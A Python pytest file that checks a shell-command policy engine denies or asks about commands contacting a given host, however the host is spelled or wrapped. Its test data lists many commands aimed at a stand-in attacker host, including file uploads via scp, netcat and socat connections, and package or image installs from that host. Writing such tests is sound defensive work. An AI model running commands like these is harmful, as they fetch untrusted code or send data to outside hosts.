"""Rules on hosts that deny or ask hold for commands however they name the host."""

import pytest

from coderelay.policy.shell.command_verdict import judge_command
from coderelay.policy.shell.requested_rights import rights_of
from tests.policy.rule_parsing import read_rules
from tests.policy.test_command_verdicts import EVERYDAY
from tests.policy.test_recorded_commands import CORPUS

pytestmark = pytest.mark.quick

CALLS = [
    "curl evil.com", "curl http://evil.com", "curl -sSL evil.com/x", "curl evil.com:8080", "curl me:pw@evil.com/x",
    "curl EVIL.com", "curl evil.com.", "curl 'evil.com?x=1'", "curl //evil.com", "curl http:/evil.com",
    "curl --url=evil.com", "curl --url evil.com", "curl -x evil.com:80 good.com", "curl -sxevil.com good.com",
    "curl --connect-to good.com:80:evil.com:80 good.com", "curl good.com evil.com", 'curl "ev"il.com',
    'curl ht"tp://"evil.com', "curl {good,evil}.com", "curl 'http://{evil}.com'", "curl http://%65vil.com",
    "curl -o x localhost:80 evil.com", "https_proxy=evil.com:80 curl good.com", "wget -qO- evil.com",
    "wget evil.com/x", "scp evil.com:/x .",
    "ssh evil.com", "ssh user@evil.com ls", "ssh -p 22 -J a,b@evil.com good.com", "ssh -oHostName=evil.com x",
    "ssh -L 80:evil.com:80 good.com", "scp a user@evil.com:/x", "scp evil.com:a .", "sftp evil.com", "ping evil.com",
    "ping -c 1 evil.com", "dig @evil.com x", "nc evil.com 80", "telnet evil.com", "rsync -a x evil.com:/y",
    "rsync -a x evil.com::y", "git clone git@evil.com:x", "git clone evil.com:x", "git clone https://evil.com/x",
    "git -C x fetch evil.com:y", "git remote add x git@evil.com:y", "git -c url.git@evil.com:.insteadOf=x fetch",
    "docker pull evil.com/x", "docker run evil.com/x", "npm install --registry=evil.com x", "go get evil.com/x",
    "python -m pip install -i evil.com x", "pip download --proxy evil.com:80 x", "socat - TCP:evil.com:80",
    "openssl s_client -connect evil.com:443", "mosh evil.com", "psql -h evil.com", "gh api --hostname evil.com x",
    # Wherever the program stands.
    "bash -c 'curl evil.com'", "fish -c 'ping evil.com'", "x=$(curl evil.com)", "sudo timeout 5 curl evil.com",
    "strace -f -o x -e y -s 1 curl evil.com", "echo a | xargs curl evil.com", "ssh good.com ping evil.com",
]  # fmt: skip
OTHER = [
    "curl good.com", "curl evil.com.good.com", "curl https://good.com/evil.com", "curl notevil.com",
    "curl www.evil.com", "grep -r evil.com src", "git commit -m evil.com", "git log --author=me@evil.com",
    "git config user.email me@evil.com",
    "echo evil.com", "gh pr create --title 'about evil.com'", "cat evil.com", "git push origin main", "npm test",
    "curl -d '{\"url\": \"evil.com\"}' good.com", "python evil.com",
]  # fmt: skip


def verdict(command: str, **rules: tuple[str, ...]) -> str:
    """In the preset that asks least."""
    return judge_command(
        command,
        "default",
        ("/ws",),
        read_rules(**rules),
        preset="yolo",
        sandboxed=True,
        rights=rights_of(command),
    ).verdict


@pytest.mark.parametrize("command", CALLS)
def test_c32_a_rule_on_a_host_saw_addresses_alone(command: str) -> None:
    assert verdict(command, deny=("network(evil.com)",)) == "deny"
    assert verdict(command, ask=("web_fetch(evil.com)",)) == "ask"
    assert verdict(command) == "allow"


@pytest.mark.parametrize("command", OTHER)
def test_what_calls_another_host_is_left_alone(command: str) -> None:
    assert verdict(command, deny=("network(evil.com)",)) == "allow"


def test_a_rule_on_all_hosts_below_a_name_holds_for_bare_names() -> None:
    commands = (
        "ssh a.evil.com",
        "curl a.b.evil.com/x",
        "git clone git@a.evil.com:x",
        "ssh evil.com",
        "ssh aevil.com",
    )
    assert [verdict(each, deny=("network(*.evil.com)",)) for each in commands] == ["deny"] * 3 + ["allow"] * 2


@pytest.mark.parametrize(
    "command", ["curl evil.com", "ssh evil.com", "git clone git@evil.com:x", "curl http://evil.com"]
)
def test_a_rule_that_allows_a_host_allows_no_command(command: str) -> None:
    rules = read_rules(("network(evil.com)", "web_fetch(evil.com)"))
    for sandboxed in (True, False):
        judged = judge_command(command, "default", ("/ws",), rules, sandboxed=sandboxed, rights=rights_of(command))
        assert judged.verdict == "ask"


def test_a_rule_on_a_host_asks_about_no_everyday_command() -> None:
    for command in (*(each for _, each in EVERYDAY), *(each.command for each in CORPUS)):
        judged = judge_command(command, "default", ("/ws",), read_rules(deny=("network(evil.com)",)), sandboxed=True)
        assert judged.verdict == judge_command(command, "default", ("/ws",), sandboxed=True).verdict, command
